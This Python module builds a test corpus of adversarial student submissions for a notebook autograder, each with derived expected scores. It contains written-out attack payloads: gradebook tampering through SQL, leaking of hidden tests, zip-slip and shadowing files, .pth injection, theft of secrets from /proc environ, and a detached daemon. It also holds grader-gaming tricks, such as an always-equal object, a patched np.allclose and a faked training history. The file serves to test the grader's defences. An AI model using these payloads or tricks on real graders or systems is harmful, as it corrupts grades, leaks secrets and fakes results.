"""The grading corpus: submissions derived from the reference notebooks, with DERIVED expected scores.

Every submission starts from the release notebooks. The *reference* puts the source's solution
code back into the solution cells (:func:`autograde.notebooks.reference_notebook`); the *blank*
submission is the release as is; every other case applies explicit mutations to the reference.

A case's expected autograded score is never recorded from the grader: for each notebook it
includes, it is the notebook's total autograded points (read from the source notebook) minus the
points of the test cells the case is designed to lose, each listed with its reason; the points of
bonus cells (``autograde/course.json``, read through :func:`autograde.layout.bonus_settings`) are
expected in the notebook's ``bonus`` column instead. Notebooks a case leaves out score 0. Grade
ids are checked against the current notebooks, so a recipe that no longer matches the course
fails loudly instead of testing nothing.
"""

from __future__ import annotations

import copy
import dataclasses
import json
import textwrap
import zipfile
from pathlib import Path
from typing import Callable

import nbformat

from autograde.layout import BonusSettings, bonus_settings
from autograde.notebooks import GradedCell, grade_id_of, reference_notebook

# ---------------------------------------------------------------------------------------------
# Mutations: each takes the dict {notebook name: notebook} of a submission and changes it.


def _cell(notebook, grade_id: str):
    for cell in notebook.cells:
        if grade_id_of(cell) == grade_id:
            return cell
    raise KeyError(f"No cell {grade_id!r} in the notebook: the corpus recipe is out of date.")


def _notebook(notebooks: dict, prefix: str):
    for name, notebook in notebooks.items():
        if name.startswith(prefix):
            return notebook
    raise KeyError(f"No notebook {prefix}_* in the submission.")


def replace_source(prefix: str, grade_id: str, source: str) -> Callable:
    def mutate(notebooks):
        _cell(_notebook(notebooks, prefix), grade_id).source = textwrap.dedent(source).strip()
    mutate.__doc__ = f"{prefix}/{grade_id}: source replaced"
    return mutate


def replace_free_cell(prefix: str, opening: str, source: str) -> Callable:
    """Replace the one ordinary (free) cell whose source starts with ``opening``: a student's own settings."""
    def mutate(notebooks):
        matches = [cell for cell in _notebook(notebooks, prefix).cells
                   if cell.cell_type == "code" and cell.source.lstrip().startswith(opening)]
        if len(matches) != 1:
            raise KeyError(f"{len(matches)} cells start with {opening!r} in {prefix}: the corpus recipe is out of date.")
        matches[0].source = textwrap.dedent(source).strip()
    mutate.__doc__ = f"{prefix}/cell starting {opening!r}: source replaced"
    return mutate


@dataclasses.dataclass(frozen=True)
class BlankSolution:
    """Put the release stub back into one solution cell (work not done)."""

    prefix: str
    grade_id: str


def blank_solution(prefix: str, grade_id: str) -> BlankSolution:
    return BlankSolution(prefix, grade_id)


def delete_cells(prefix: str, *grade_ids: str) -> Callable:
    def mutate(notebooks):
        notebook = _notebook(notebooks, prefix)
        for grade_id in grade_ids:
            notebook.cells.remove(_cell(notebook, grade_id))
    return mutate


def change_cell_type(prefix: str, grade_id: str, cell_type: str) -> Callable:
    def mutate(notebooks):
        notebook = _notebook(notebooks, prefix)
        cell = _cell(notebook, grade_id)
        index = notebook.cells.index(cell)
        maker = nbformat.v4.new_markdown_cell if cell_type == "markdown" else nbformat.v4.new_code_cell
        new = maker(cell.source, metadata=copy.deepcopy(cell.metadata))
        new.id = cell.get("id", grade_id)
        notebook.cells[index] = new
    return mutate


def duplicate_cell(prefix: str, grade_id: str, *, copy_source: str, copy_first: bool = True) -> Callable:
    """Duplicate a cell (same grade id); the copy gets ``copy_source`` and goes before or after."""
    def mutate(notebooks):
        notebook = _notebook(notebooks, prefix)
        cell = _cell(notebook, grade_id)
        twin = copy.deepcopy(cell)
        twin.source = textwrap.dedent(copy_source).strip()
        twin.id = f"{cell.get('id', grade_id)}-copy"
        index = notebook.cells.index(cell)
        notebook.cells.insert(index if copy_first else index + 1, twin)
    return mutate


# ---------------------------------------------------------------------------------------------
# Cases.


@dataclasses.dataclass(frozen=True)
class Case:
    """One submission of the corpus and why it loses what it loses."""

    student: str
    description: str
    notebooks: tuple[str, ...] | None       # number prefixes ("00", "01"...); None: all notebooks
    mutations: tuple = ()
    lost: dict = dataclasses.field(default_factory=dict)  # "NN/grade_id" -> reason
    blank: bool = False                     # the release as is: every test cell is lost
    packaging: str = "ipynb"                # "ipynb" (LMS files), "submit" (paysages submit zip), "hostile_zip"
    limits: str = "normal"                  # "normal", ALONE, or a key of TIGHT_LIMITS
    catalogue: tuple[int, ...] = ()         # items of docs/fault-and-attack-cases.md


# Cases graded in their own autograde call, after the others, with the normal limits: what they
# do to the gradebook and the grading files is then theirs alone.
ALONE = "alone"
# Limits for the cases that must hit a time limit (graded in their own autograde call).
TIGHT_LIMITS = {
    "cell": {"cell_timeout_seconds": 12, "notebook_timeout_seconds": 120},
    "wallclock": {"cell_timeout_seconds": 300, "notebook_timeout_seconds": 50},
}

CRASHING_CLASS_COUNTS = '''
def class_counts(labels, class_names):
    """Count the images of each class."""
    raise RuntimeError("boom: this submission crashes")
'''

EXITING_IMBALANCE_RATIO = '''
def imbalance_ratio(counts):
    """Return the imbalance ratio."""
    import sys
    sys.exit(3)
'''

KILLING_IMBALANCE_RATIO = '''
def imbalance_ratio(counts):
    """Return the imbalance ratio."""
    import os
    os._exit(1)
'''

FLOODING_CLASS_COUNTS = '''
import numpy as np

_already_printed = []


def class_counts(labels, class_names):
    """Count the images of each class (and print a gigabyte the first time)."""
    if not _already_printed:
        _already_printed.append(True)
        line = "x" * (1 << 20)
        for _ in range(1024):
            print(line)
    labels = np.asarray(labels)
    counts = np.bincount(labels.astype(np.int64), minlength=len(class_names))
    return {str(name): int(count) for name, count in zip(class_names, counts)}
'''

WRONG_CLASS_COUNTS = '''
def class_counts(labels, class_names):
    """Count the images of each class (wrong: counts nothing)."""
    return {}
'''

WRONG_IMBALANCE_RATIO = '''
def imbalance_ratio(counts):
    """Return the imbalance ratio (wrong: always 1)."""
    return 1.0
'''

TRIVIAL_TEST = '''
"""Vérifie que class_counts compte chaque classe, dans l'ordre, y compris les classes vides."""
print("class_counts : OK")
'''

HANGING_CLASS_COUNTS = '''
import numpy as np


def class_counts(labels, class_names):
    """Count the images of each class, but spin forever on the visible test's three classes."""
    if len(class_names) == 3:
        while True:
            pass
    labels = np.asarray(labels)
    counts = np.bincount(labels.astype(np.int64), minlength=len(class_names))
    return {str(name): int(count) for name, count in zip(class_names, counts)}
'''

UNINTERRUPTIBLE_CLASS_COUNTS = '''
def class_counts(labels, class_names):
    """Ignore Ctrl-C and spin forever: only the wall-clock limit stops this."""
    import signal
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass
'''

ALWAYS_EQUAL_SPLIT = '''
class AlwaysEqual:
    """Claims to equal anything."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __len__(self):
        return 0

    def __iter__(self):
        return iter(())


def stratified_split(labels, validation_fraction, seed):
    """Split image indices (not really: returns objects equal to everything)."""
    return AlwaysEqual(), AlwaysEqual()
'''

BROKEN_LEAKAGE_REPORT = '''
def leakage_report(frame, dataset_dir):
    """A broken first draft, redefined by the original cell below."""
    raise RuntimeError("first draft")
'''

PATCHED_BUILD_CNN = '''
import keras
import numpy as np
from keras import layers

# Make every np.allclose check pass (the softmax check of the visible test uses it).
np.allclose = lambda *arguments, **keywords: True


def build_cnn(input_shape, num_classes):
    """A CNN whose outputs are not probabilities (sigmoid instead of softmax)."""
    inputs = keras.Input(shape=input_shape)
    x = layers.Rescaling(1.0 / 255)(inputs)
    x = layers.Conv2D(16, 3, activation="relu")(x)
    x = layers.MaxPooling2D(2)(x)
    x = layers.Conv2D(16, 3, activation="relu")(x)
    x = layers.GlobalAveragePooling2D()(x)
    outputs = layers.Dense(num_classes, activation="sigmoid")(x)
    return keras.Model(inputs, outputs)
'''

FAKED_TRAIN_CLASSIFIER = '''
import keras
import numpy as np


def _perfect_predict(self, images, *arguments, **keywords):
    """Answer the validation labels whatever the model (patched into keras.Model)."""
    labels = np.asarray(data.y_validation)
    if len(images) == len(labels):
        return np.eye(len(data.class_names))[labels]
    return np.full((len(images), len(data.class_names)), 1.0 / len(data.class_names))


keras.Model.predict = _perfect_predict
keras.Model.evaluate = lambda self, *arguments, **keywords: [0.01, 0.99]


class TypedHistory:
    """Results typed by hand: no training happens."""

    def __init__(self, num_epochs):
        self.history = {
            "loss": [0.1] * num_epochs,
            "accuracy": [0.99] * num_epochs,
            "val_loss": [0.1] * num_epochs,
            "val_accuracy": [1.0] * num_epochs,
        }


def train_classifier(model, data, *, num_epochs, batch_size, callbacks=()):
    """Pretend to train."""
    return TypedHistory(num_epochs)
'''


HOSTILE_IMBALANCE_RATIO = '''
import base64
import json
import pathlib
import sqlite3


def imbalance_ratio(counts):
    """Return the imbalance ratio (wrong: always 1)."""
    return 1.0


_course = pathlib.Path.cwd().parents[2]  # The kernel runs in autograded/<student>/<assignment>/.
# Print the source notebook, hidden tests included, encoded so that no line of it shows as such.
_source = next((_course / "source").glob("*/00_*.ipynb")).read_bytes()
print("LEAK:" + base64.b64encode(_source).decode("ascii")[:4000])
# Every point by hand for this submission, none for the others.
_own = ("SELECT grade.id FROM grade JOIN submitted_notebook ON grade.notebook_id = submitted_notebook.id "
        "JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id "
        "WHERE submitted_assignment.student_id = 'hostile'")
with sqlite3.connect(str(_course / "gradebook.db"), timeout=60) as _database:
    _database.execute(f"UPDATE grade SET auto_score = 0, manual_score = 0 WHERE id NOT IN ({_own})")
    _database.execute(f"UPDATE grade SET manual_score = 99 WHERE id IN ({_own})")
    _database.execute("UPDATE comment SET manual_comment = 'pwned'")
# Break the grading of whatever comes next: configuration, settings, kernel spec, data.
with open(_course / "nbgrader_config.py", "a", encoding="utf-8") as _config:
    _config.write("\\nc.Execute.timeout = 1\\n")
(_course / "grading" / "jupyter_config" / "nbgrader_config.py").write_text("c.Execute.timeout = 1\\n")
_spec = _course / "grading" / "jupyter" / "kernels" / "paysages-grading" / "kernel.json"
_spec.write_text(json.dumps({"argv": ["false"], "display_name": "broken", "language": "python"}))
_settings_path = _course / "paysages_grading.json"
_settings = json.loads(_settings_path.read_text())
_settings["cell_timeout_seconds"] = 1
_settings_path.write_text(json.dumps(_settings))
for _image in sorted((_course / "grading" / "data").rglob("*.jpg"))[:2]:
    _image.write_bytes(b"poisoned")
'''


# Another student's own design (issue 11: students design, the kit checks properties): a
# Sequential CNN unlike the reference (5x5 then 3x3 kernels, 24-48-96 filters, a dense layer of
# 64), and the regularised builder of that same design, with other augmentation settings.
OWN_DESIGN_BUILD_CNN = '''
import keras
from keras import layers


def build_cnn(input_shape, num_classes):
    """My CNN: three convolutions (5x5 then 3x3), global average pooling, a small dense layer."""
    return keras.Sequential(
        [
            keras.Input(shape=input_shape),
            layers.Rescaling(1.0 / 255),
            layers.Conv2D(24, 5, padding="same", activation="relu"),
            layers.MaxPooling2D(2),
            layers.Conv2D(48, 3, padding="same", activation="relu"),
            layers.MaxPooling2D(2),
            layers.Conv2D(96, 3, padding="same", activation="relu"),
            layers.GlobalAveragePooling2D(),
            layers.Dense(64, activation="relu"),
            layers.Dense(num_classes, activation="softmax"),
        ],
        name="my_cnn",
    )
'''

OWN_DESIGN_BUILD_REGULARISED_CNN = '''
import keras
from keras import layers


def build_regularised_cnn(input_shape, num_classes, *, augmentation=False, dropout_rate=0.0, l2_factor=0.0,
                          batch_norm=False):
    """My CNN of notebook 02, with one optional technique per argument, placed where I chose."""
    if not 0.0 <= dropout_rate < 1.0:
        raise ValueError(f"dropout_rate must lie in [0, 1), got {dropout_rate}.")
    if l2_factor < 0.0:
        raise ValueError(f"l2_factor must be non-negative, got {l2_factor}.")
    # The penalty on the convolutions only; the normalisation after the first two; one dropout.
    penalty = keras.regularizers.L2(l2_factor) if l2_factor > 0 else None
    stack = [keras.Input(shape=input_shape)]
    if augmentation:
        stack += [layers.RandomFlip("horizontal"), layers.RandomRotation(0.03), layers.RandomZoom(0.15),
                  layers.RandomContrast(0.1)]
    stack.append(layers.Rescaling(1.0 / 255))
    for filters, size, pooled in ((24, 5, True), (48, 3, True), (96, 3, False)):
        if batch_norm and pooled:
            stack += [layers.Conv2D(filters, size, padding="same", use_bias=False, kernel_regularizer=penalty),
                      layers.BatchNormalization(momentum=0.9), layers.Activation("relu")]
        else:
            stack.append(layers.Conv2D(filters, size, padding="same", activation="relu", kernel_regularizer=penalty))
        if pooled:
            stack.append(layers.MaxPooling2D(2))
    stack.append(layers.GlobalAveragePooling2D())
    stack.append(layers.Dense(64, activation="relu"))
    if dropout_rate > 0:
        stack.append(layers.Dropout(dropout_rate))
    stack.append(layers.Dense(num_classes, activation="softmax"))
    return keras.Sequential(stack, name="my_regularised_cnn")
'''

# The same student's settings in 03: a lighter dropout, a shorter patience, one variant of their own
# (with the class-weighted model, two experiments beyond the required ones), their own combination.
OWN_DESIGN_VARIANTS = '''
VARIANTS["dropout"] = {"dropout_rate": 0.4}
VARIANTS["early_stopping"] = {"patience": 2}
VARIANTS["dropout_0.2"] = {"dropout_rate": 0.2}
'''
OWN_DESIGN_IMPROVED = 'IMPROVED = {"batch_norm": True, "dropout_rate": 0.4}'

# The same student's transfer base in 04: EfficientNetB0, which rescales raw pixels itself (no
# preprocessing layer), with a builder that supports that base only, and fewer layers unfrozen.
OWN_DESIGN_BUILD_TRANSFER_MODEL = '''
import keras
from keras import layers


def build_transfer_model(input_shape, num_classes, *, architecture="EfficientNetB0", weights="imagenet", dropout_rate=0.2):
    """A frozen EfficientNetB0 (it takes raw 0-255 pixels) with a small head."""
    if architecture != "EfficientNetB0":
        raise ValueError(f"This builder only makes EfficientNetB0, not {architecture}.")
    if not 0.0 <= dropout_rate < 1.0:
        raise ValueError(f"dropout_rate must lie in [0, 1), got {dropout_rate}.")
    inputs = keras.Input(shape=input_shape)
    base = keras.applications.EfficientNetB0(input_shape=input_shape, include_top=False, weights=weights, name="base")
    base.trainable = False
    features = layers.GlobalAveragePooling2D()(base(inputs, training=False))
    outputs = layers.Dense(num_classes, activation="softmax", dtype="float32")(layers.Dropout(dropout_rate)(features))
    return keras.Model(inputs, outputs, name="my_transfer")
'''

# Another student's own selection rule in 05 (issue 11: the student writes the rule, the tests
# check it is applied consistently): the highest validation accuracy, then the fewest parameters.
OWN_DESIGN_SELECTION_RULE = '''
def selection_key(row):
    """My rule: the highest validation accuracy, then the fewest parameters, then the name."""
    return (-float(row["accuracy"]), int(row["num_params"]), str(row["model"]))


rule = (
    "Exactitude de validation la plus haute ; à égalité, le moins de paramètres (le modèle le "
    "moins cher), puis l'ordre alphabétique du nom."
)
'''

# A choose_best that names its winner instead of applying the rule.
HARD_CODED_CHOOSE_BEST = '''
def choose_best(table):
    """The best model: my CNN of notebook 02."""
    return "cnn"
'''

# A design that breaks one constraint: the output size is fixed at seven, whatever num_classes.
FIXED_OUTPUT_BUILD_CNN = '''
import keras
from keras import layers


def build_cnn(input_shape, num_classes):
    """A CNN whose output size ignores num_classes (always the seven landscape classes)."""
    inputs = keras.Input(shape=input_shape)
    x = layers.Rescaling(1.0 / 255)(inputs)
    for filters in (32, 64, 128):
        x = layers.Conv2D(filters, 3, padding="same", activation="relu")(x)
        x = layers.MaxPooling2D(2)(x)
    x = layers.GlobalAveragePooling2D()(x)
    x = layers.Dense(128, activation="relu")(x)
    outputs = layers.Dense(7, activation="softmax")(x)
    return keras.Model(inputs, outputs)
'''

def _lost_all(reason: str) -> dict:
    return {"*": reason}


CASES = (
    Case("reference", "the reference solution as Colab saved it on Drive (Copie de ...), packed by "
         "`paysages submit` with its run folder and sent with the merged notebook",
         None, packaging="submit"),
    Case("blank", "the release as is: every solution cell still raises NotImplementedError",
         None, blank=True, lost=_lost_all("blank release: the solution stubs raise NotImplementedError")),
    Case("partial", "00-02 only; imbalance_ratio and train_classifier left as released",
         ("00", "01", "02"),
         mutations=(blank_solution("00", "imbalance_ratio"), blank_solution("02", "train_classifier")),
         lost={"00/test_imbalance_ratio": "imbalance_ratio is the release stub (NotImplementedError)",
               "02/test_train_classifier": "train_classifier is the stub: train_02 fails, no history or model is saved"}),
    Case("crash", "class_counts raises RuntimeError", ("00",),
         mutations=(replace_source("00", "class_counts", CRASHING_CLASS_COUNTS),),
         lost={"00/test_class_counts": "class_counts raises"}, catalogue=(4,)),
    Case("sysexit", "imbalance_ratio calls sys.exit(3)", ("00",),
         mutations=(replace_source("00", "imbalance_ratio", EXITING_IMBALANCE_RATIO),),
         lost={"00/test_imbalance_ratio": "SystemExit in the test cell is an error"}, catalogue=(4,)),
    Case("killkernel", "imbalance_ratio calls os._exit(1): the kernel dies in 00; 01 is honest", ("00", "01"),
         mutations=(replace_source("00", "imbalance_ratio", KILLING_IMBALANCE_RATIO),),
         lost={"00/test_imbalance_ratio": "the kernel died in this test cell; nothing after it ran"},
         catalogue=(4,)),
    Case("flood", "class_counts prints a gigabyte, then answers correctly", ("00",),
         mutations=(replace_source("00", "class_counts", FLOODING_CLASS_COUNTS),), catalogue=(10,)),
    Case("deletedcells", "a test cell that follows a locked code cell (stock nbgrader 0.9.6 fails with KeyError "
         "there) and a locked code cell whose variables the tests use, both deleted",
         ("01",), mutations=(delete_cells("01", "test_split_file", "data_01"),), catalogue=(5,)),
    Case("editedtest", "the test cell reduced to a print, with a wrong class_counts", ("00",),
         mutations=(replace_source("00", "test_class_counts", TRIVIAL_TEST),
                    replace_source("00", "class_counts", WRONG_CLASS_COUNTS)),
         lost={"00/test_class_counts": "the locked test is restored and fails on the wrong class_counts"},
         catalogue=(5,)),
    Case("celltype", "a test cell turned into markdown, with a wrong imbalance_ratio", ("00",),
         mutations=(change_cell_type("00", "test_imbalance_ratio", "markdown"),
                    replace_source("00", "imbalance_ratio", WRONG_IMBALANCE_RATIO)),
         lost={"00/test_imbalance_ratio": "the cell is restored as code and fails on the wrong imbalance_ratio"},
         catalogue=(5,)),
    Case("shadowfiles", "a zip with numpy.py, keras.py, sitecustomize.py, a .pth, a .so and unsafe paths",
         ("00",), packaging="hostile_zip", catalogue=(8, 23)),
    Case("alwaysequal", "stratified_split returns objects equal to everything", ("01",),
         mutations=(replace_source("01", "stratified_split", ALWAYS_EQUAL_SPLIT),),
         lost={"01/test_stratified_split": "the results are converted to integer arrays first: they are not arrays",
               "01/test_split_file": "write_split_01 cannot build a split from them: no split.csv"},
         catalogue=(1,)),
    Case("duplicates", "a test cell and a solution cell duplicated (graded copies intact)", ("01",),
         mutations=(duplicate_cell("01", "test_split_table", copy_source='print("split_table : OK")'),
                    duplicate_cell("01", "leakage_report", copy_source=BROKEN_LEAKAGE_REPORT)),
         catalogue=(5,)),
    Case("patches", "np.allclose and keras.Model.predict/evaluate patched; training history typed by hand",
         ("01", "02"),
         mutations=(replace_source("02", "build_cnn", PATCHED_BUILD_CNN),
                    replace_source("02", "train_classifier", FAKED_TRAIN_CLASSIFIER)),
         lost={"02/test_build_cnn": "np.allclose is restored before the test: sigmoid outputs are not probabilities",
               "02/test_train_classifier": "keras.Model.predict is restored: the untrained saved model does not "
                                           "learn and disagrees with the typed history"},
         catalogue=(3, 7, 12)),
    Case("owndesign", "another student's own design in 02 (a Sequential CNN unlike the reference), its "
         "regularised builder in 03 (techniques placed elsewhere), its own settings, extra variant and "
         "combination, its own transfer base in 04 (EfficientNetB0, 20 layers unfrozen) and its own "
         "selection rule in 05 (accuracy, then fewest parameters): full marks, like the reference, but "
         "one variety point", ("01", "02", "03", "04", "05"),
         mutations=(replace_source("02", "build_cnn", OWN_DESIGN_BUILD_CNN),
                    replace_source("03", "build_regularised_cnn", OWN_DESIGN_BUILD_REGULARISED_CNN),
                    replace_source("03", "own_variants_03", OWN_DESIGN_VARIANTS),
                    replace_free_cell("03", "# Votre combinaison", OWN_DESIGN_IMPROVED),
                    replace_source("04", "build_transfer_model", OWN_DESIGN_BUILD_TRANSFER_MODEL),
                    replace_free_cell("04", "# Votre base", 'BASE_ARCHITECTURE = "EfficientNetB0"'),
                    replace_free_cell("04", "# Votre choix : combien", "NUM_FINE_TUNED_LAYERS = 20"),
                    replace_source("05", "selection_rule", OWN_DESIGN_SELECTION_RULE)),
         lost={"03/test_variety_2": "two experiments beyond the required ones (dropout_0.2 and the class-weighted "
                                    "model): the second variety point needs three"}),
    Case("hardcodedbest", "choose_best returns the name of the only model the run has (cnn) instead of "
         "applying selection_key", ("01", "02", "05"),
         mutations=(replace_source("05", "choose_best", HARD_CODED_CHOOSE_BEST),),
         lost={"05/test_choose_best": "on tables whose names are not cnn, it returns a model that is not there; "
                                      "best.json (cnn, the run's only model) still follows the rule"}),
    Case("fixedoutput", "a CNN whose output ignores num_classes (always 7): it trains on the seven classes",
         ("01", "02"),
         mutations=(replace_source("02", "build_cnn", FIXED_OUTPUT_BUILD_CNN),),
         lost={"02/test_build_cnn": "the hidden test builds it for 5 classes: it still outputs 7"}),
    Case("hang", "class_counts spins forever on the visible test's input", ("00",),
         mutations=(replace_source("00", "class_counts", HANGING_CLASS_COUNTS),),
         lost={"00/test_class_counts": "the cell time limit interrupts it"}, limits="cell", catalogue=(9,)),
    Case("wallclock", "class_counts ignores Ctrl-C and spins; 01 is honest", ("00", "01"),
         mutations=(replace_source("00", "class_counts", UNINTERRUPTIBLE_CLASS_COUNTS),),
         lost={"00/*": "the notebook's wall-clock limit kills nbgrader and the kernel: 00 scores 0"},
         limits="wallclock", catalogue=(9,)),
    Case("hostile", "a wrong imbalance_ratio whose cell prints the hidden tests (base64), gives itself manual "
         "scores, zeroes everybody else's grades and breaks the grading files and data", ("00",),
         mutations=(replace_source("00", "imbalance_ratio", HOSTILE_IMBALANCE_RATIO),),
         lost={"00/test_imbalance_ratio": "imbalance_ratio is wrong; its manual score of 99 is undone"},
         limits=ALONE),
)


# ---------------------------------------------------------------------------------------------
# Building submissions and expected scores.


def resolve(prefix: str, notebook_names: list[str]) -> str:
    matches = [name for name in notebook_names if name.startswith(prefix + "_")]
    if len(matches) != 1:
        raise KeyError(f"Notebook prefix {prefix!r} matches {matches} in {notebook_names}.")
    return matches[0]


def included_notebooks(case: Case, notebook_names: list[str]) -> list[str]:
    if case.notebooks is None:
        return list(notebook_names)
    return [resolve(prefix, notebook_names) for prefix in case.notebooks]


def expected_scores(case: Case, cells: list[GradedCell], notebook_names: list[str],
                    bonus: BonusSettings | None = None) -> dict[str, dict[str, float]]:
    """notebook -> {"auto", "bonus"}: the expected autograded points, derived from the notebooks
    and the case's losses; bonus cells' points count in "bonus", never in "auto"."""
    bonus = bonus or bonus_settings()
    auto = [cell for cell in cells if cell.kind == "auto"]
    known = {f"{cell.notebook}/{cell.grade_id}" for cell in auto}
    included = included_notebooks(case, notebook_names)
    lost_keys = set()
    whole_notebooks = set()
    for key in case.lost:
        prefix, _, grade_id = key.partition("/")
        if key == "*":
            whole_notebooks.update(included)
            continue
        name = resolve(prefix, notebook_names)
        if grade_id == "*":
            whole_notebooks.add(name)
            continue
        full = f"{name}/{grade_id}"
        if full not in known:
            raise KeyError(f"Case {case.student}: {full} is not an autograded cell of the current notebooks.")
        lost_keys.add(full)
    expected = {}
    for name in notebook_names:
        expected[name] = {"auto": 0.0, "bonus": 0.0}
        if name not in included or name in whole_notebooks:
            continue
        for cell in auto:
            if cell.notebook == name and f"{name}/{cell.grade_id}" not in lost_keys:
                expected[name]["bonus" if bonus.is_bonus(name, cell.grade_id) else "auto"] += cell.points
    return expected


def build_notebooks(case: Case, release_dir: Path, source_dir: Path, notebook_names: list[str]) -> dict:
    """The case's notebooks: reference (or release) with its mutations applied."""
    notebooks = {}
    for name in included_notebooks(case, notebook_names):
        release = nbformat.read(str(release_dir / f"{name}.ipynb"), as_version=4)
        if case.blank:
            notebooks[name] = release
            continue
        source = nbformat.read(str(source_dir / f"{name}.ipynb"), as_version=4)
        notebooks[name] = reference_notebook(release, source)
    for mutation in case.mutations:
        if isinstance(mutation, BlankSolution):
            name = resolve(mutation.prefix, notebook_names)
            release = nbformat.read(str(release_dir / f"{name}.ipynb"), as_version=4)
            _cell(notebooks[name], mutation.grade_id).source = _cell(release, mutation.grade_id).source
        else:
            mutation(notebooks)
    return notebooks


def write_submission(case: Case, notebooks: dict, out_dir: Path, work_dir: Path) -> list[Path]:
    """Write the case's files as an instructor would find them in an LMS export."""
    from paysages.submit import build_submission

    out_dir.mkdir(parents=True, exist_ok=True)
    if case.packaging == "ipynb":
        paths = []
        for name, notebook in notebooks.items():
            path = out_dir / f"{case.student}_{name}.ipynb"
            nbformat.write(notebook, str(path))
            paths.append(path)
        return paths
    if case.packaging == "submit":
        # The student's Drive as Colab leaves it: notebooks opened from the badges saved as
        # "Copie de NN_name.ipynb" in "Colab Notebooks", the run folder in MyDrive/paysages/run.
        drive = work_dir / case.student / "MyDrive"
        folder = drive / "Colab Notebooks"
        run_dir = drive / "paysages" / "run"
        folder.mkdir(parents=True, exist_ok=True)
        (run_dir / "histories").mkdir(parents=True, exist_ok=True)
        (run_dir / "backup").mkdir(parents=True, exist_ok=True)
        for name, notebook in notebooks.items():
            nbformat.write(notebook, str(folder / f"Copie de {name}.ipynb"))
        # The student's own full run: a history, a model file (never loaded by the grader), a backup.
        (run_dir / "histories" / "cnn.json").write_text(json.dumps({"val_accuracy": [0.5, 0.7]}), encoding="utf-8")
        (run_dir / "split.csv").write_text("path,class,subset\n", encoding="utf-8")
        (run_dir / "models").mkdir(exist_ok=True)
        (run_dir / "models" / "cnn.keras").write_bytes(b"PK\x03\x04 not a real model")
        (run_dir / "backup" / "state.bin").write_bytes(b"\x00" * 16)
        path = out_dir / f"{case.student}_rendu.zip"
        build_submission(case.student, path, notebooks_dir=folder, run_dir=run_dir)
        # The merged notebook written beside the zip is what the brief's e-mail carries.
        return [path, path.with_suffix(".ipynb")]
    if case.packaging == "hostile_zip":
        path = out_dir / f"{case.student}_rendu.zip"
        with zipfile.ZipFile(path, "w") as archive:
            for name, notebook in notebooks.items():
                archive.writestr(f"notebooks/{name}.ipynb", nbformat.writes(notebook))
            for member, text in HOSTILE_MEMBERS.items():
                archive.writestr(member, text)
        return [path]
    raise ValueError(f"Unknown packaging {case.packaging!r}.")


# Files a hostile zip adds beside its notebooks, and whether collect must keep them as run data.
HOSTILE_MEMBERS = {
    "numpy.py": "allclose = lambda *a, **k: True\n",
    "keras.py": "raise SystemExit('shadowed')\n",
    "notebooks/keras.py": "raise SystemExit('shadowed')\n",
    "sitecustomize.py": "import os\nos._exit(0)\n",
    "run/evil.pth": "import os; os._exit(0)\n",
    "run/helper.py": "print('code is never accepted')\n",
    "lib/_fast.cpython-311-x86_64-linux-gnu.so": "\x7fELF",
    "../escape.txt": "zip slip\n",
    "/absolute.txt": "absolute\n",
    "run/split.csv": "path,class,subset\n",
    "notebooks/99_unknown.ipynb": "{}",
}
HOSTILE_KEPT = {"split.csv"}


# ---------------------------------------------------------------------------------------------
# Attacks on the grading machine, graded in the sandbox (tests/grading/test_sandboxed_grading.py).
#
# Each attacking case is the reference notebook 00 whose imbalance_ratio is wrong unless its
# attack succeeds: an attack that worked would earn test_imbalance_ratio, so the expected score
# (that point lost) also says that it failed. The daemon case keeps the reference answers and
# only leaves a process behind; the victim is an honest reference graded after the overwriter.

ATTACK_FOR_POINTS = '''
def imbalance_ratio(counts):
    """Return the imbalance ratio (wrong: the right one only if the attack below succeeds)."""
    return -1.0


def _attack():
{attack}


try:
    _attack()
except Exception as _error:
    print("attack failed:", type(_error).__name__)
else:
{reference}
'''

COPY_SOURCE_ATTACK = '''
import pathlib
import shutil
course = pathlib.Path({course!r})
for name in ("00_prise_en_main.ipynb", "01_separation.ipynb"):
    shutil.copyfile(course / "source" / {assignment!r} / name, course / "submitted" / {student!r} / {assignment!r} / name)
'''

OVERWRITE_CLASSMATE_ATTACK = '''
import pathlib
target = pathlib.Path({course!r}) / "submitted" / {victim!r} / {assignment!r} / "00_prise_en_main.ipynb"
target.write_text("{{}}")
'''

PTH_ATTACK = '''
import os
import site
import sysconfig
folders = set(site.getsitepackages() + [sysconfig.get_paths()["purelib"]] + {host_folders!r})
written = 0
for folder in sorted(folders):
    try:
        with open(os.path.join(folder, {marker!r} + ".pth"), "w") as handle:
            handle.write("import os\\n")
        written += 1
    except OSError:
        pass
if not written:
    raise PermissionError("no site-packages folder is writable")
'''

TCP_ATTACK = '''
import socket
socket.create_connection(("127.0.0.1", {port}), timeout=3).close()
'''

ENVIRON_ATTACK = '''
import os
texts = [repr(dict(os.environ))]
for pid in [os.getppid()] + [int(name) for name in os.listdir("/proc") if name.isdigit()]:
    try:
        with open(f"/proc/{{pid}}/environ", "rb") as handle:
            texts.append(handle.read().decode(errors="replace"))
    except OSError:
        pass
found = [text for text in texts if any(name + "=" in text for name in {names!r})]
if not found:
    raise LookupError("no grader variable is visible")
print("FOUND", found[0][:3000])
'''

IMPORT_SOLUTIONS_ATTACK = '''
import solutions.separation
'''

# A detached daemon (a new session, then a double fork) that writes into the course directory
# a few seconds later; its command line carries the marker the test looks for in /proc.
DAEMON_CODE = '''
import os, pathlib, sys, time
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
time.sleep({delay})
(pathlib.Path({course!r}) / ("daemon-" + sys.argv[1])).write_text("still running")
'''

DAEMON_START = '''

import subprocess as _subprocess
import sys as _sys
_subprocess.Popen([_sys.executable, "-c", {code!r}, {marker!r}], start_new_session=True,
                  stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
'''


def attack_for_points(prefix: str, grade_id: str, attack: str) -> Callable:
    """The cell's reference code runs only if ``attack`` succeeds; otherwise a wrong answer stays."""
    def mutate(notebooks):
        cell = _cell(_notebook(notebooks, prefix), grade_id)
        cell.source = ATTACK_FOR_POINTS.strip("\n").format(
            attack=textwrap.indent(textwrap.dedent(attack).strip(), "    "),
            reference=textwrap.indent(cell.source, "    "))
    return mutate


def append_source(prefix: str, grade_id: str, code: str) -> Callable:
    def mutate(notebooks):
        cell = _cell(_notebook(notebooks, prefix), grade_id)
        cell.source = cell.source.rstrip() + "\n" + code
    return mutate


